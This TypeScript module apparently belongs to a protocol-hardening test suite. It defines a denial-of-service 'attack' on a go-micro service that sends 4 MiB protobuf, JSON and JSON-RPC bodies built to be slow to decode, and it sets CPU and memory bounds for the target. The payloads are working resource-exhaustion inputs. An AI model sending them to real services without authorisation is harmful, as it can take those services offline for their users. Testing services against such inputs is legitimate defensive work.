import type { Attack } from "../attack.ts";
import { elementBombs, jsonBombs } from "../wire/element-bombs.ts";
import { goMicroHead } from "../wire/http1.ts";

export const attack: Attack = {
  protocol: "go-micro",
  description: "requests of 4 MiB each, in protobuf, JSON and json-rpc, that take long to decode",
  bounds: { cpuMsPerMB: 90, heldPerByte: 4 },
  heapMB: 1_024,
  async run(target) {
    const send = async (type: string, body: Buffer) => {
      const connection = await target.connect();
      await connection.write(
        goMicroHead(
          "Say",
          `Content-Type: ${type}`,
          `Content-Length: ${body.length}`,
          "Connection: close",
        ),
      );
      await connection.write(body, 10_000);
      await connection.closed;
    };
    const binary = ["empty sub-messages", "unknown fields", "packed 64-bit integers"];
    for (const name of binary) await send("application/protobuf", elementBombs[name]!());
    const json = ["a number in quotes", "empty sub-messages", "Struct with empty objects"];
    for (const name of json) {
      const message = jsonBombs[name]!();
      await send("application/json", Buffer.from(message));
      const envelope = `{"method":"TargetService.Say","id":1,"params":[${message.slice(0, -64)}`;
      await send("application/json-rpc", Buffer.from(envelope));
      await send(
        "application/json-rpc",
        Buffer.from(
          `{"method":"TargetService.Say","id":1,"params":[{"items":[${"{},".repeat(1_390_000)}{}]}]}`,
        ),
      );
    }
  },
};
